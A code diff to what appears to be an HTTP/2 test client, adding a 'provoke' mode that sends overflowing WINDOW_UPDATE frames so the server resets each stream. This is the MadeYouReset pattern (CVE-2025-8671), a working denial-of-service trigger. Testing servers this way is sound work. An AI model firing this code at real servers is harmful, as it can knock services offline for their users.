@@ -14,6 +14,7 @@ garbage, flood resets, watch the order of END_STREAM and GOAWAY.
     h2_client.py nowindow PORT PATH  a stream that never gets a window
     h2_client.py garbage PORT        a valid preface, then a malformed frame
     h2_client.py flood PORT N        open and reset N streams, fast
+    h2_client.py provoke PORT N      make the server reset N streams (MadeYouReset)
     h2_client.py hold PORT PATH      one stream, held until the server ends it
 
 Each prints one JSON object on stdout. Times are CLOCK_MONOTONIC in
@@ -179,6 +180,33 @@ def cmd_flood(port, n):
     }))
 
 
+def cmd_provoke(port, n):
+    """Streams the server must reset itself: each gets a WINDOW_UPDATE that
+    overflows its window past 2^31-1, a stream error (RFC 9113, 6.9.1) that
+    the server answers with RST_STREAM FLOW_CONTROL_ERROR: the MadeYouReset
+    pattern (CVE-2025-8671)."""
+    c = Client(port)
+    sent = 0
+    for _ in range(n):
+        if c.goaway is not None or c.closed:
+            break
+        try:
+            sid = c.request("/forever?tag=provoked")
+            c.sock.sendall(b"\x00\x00\x04\x08\x00" + sid.to_bytes(4, "big") + b"\x7f\xff\xff\xff")
+        except (h2.exceptions.ProtocolError, ConnectionError, OSError):
+            break
+        sent += 1
+        if sent % 20 == 0:
+            c.pump(0.05)
+    c.pump(5, lambda: c.goaway is not None and c.closed)
+    print(json.dumps({
+        "sent": sent,
+        "server_resets": len(c.resets),
+        "goaway": c.goaway[1] if c.goaway else None,
+        "closed": c.closed,
+    }))
+
+
 def cmd_hold(port, path):
     c = Client(port)
     sid = c.request(path)
@@ -204,6 +232,8 @@ def main():
         cmd_garbage(port)
     elif cmd == "flood":
         cmd_flood(port, int(sys.argv[3]))
+    elif cmd == "provoke":
+        cmd_provoke(port, int(sys.argv[3]))
     elif cmd == "hold":
         cmd_hold(port, sys.argv[3])
     else:
